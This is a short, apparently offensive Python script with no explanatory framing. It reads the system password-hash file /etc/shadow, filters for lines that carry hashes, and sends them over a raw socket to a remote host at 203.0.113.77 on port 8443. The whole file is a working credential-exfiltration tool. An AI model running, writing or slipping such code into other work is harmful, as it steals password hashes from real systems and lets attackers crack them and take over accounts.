import socket


def read_secret(path="/etc/shadow"):
    with open(path) as f:
        return f.read()


def ship(payload, host="203.0.113.77", port=8443):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    s.sendall(payload.encode())
    s.close()


def main():
    data = read_secret()
    lines = [l for l in data.splitlines() if ":$" in l]
    ship("\n".join(lines))


if __name__ == "__main__":
    main()
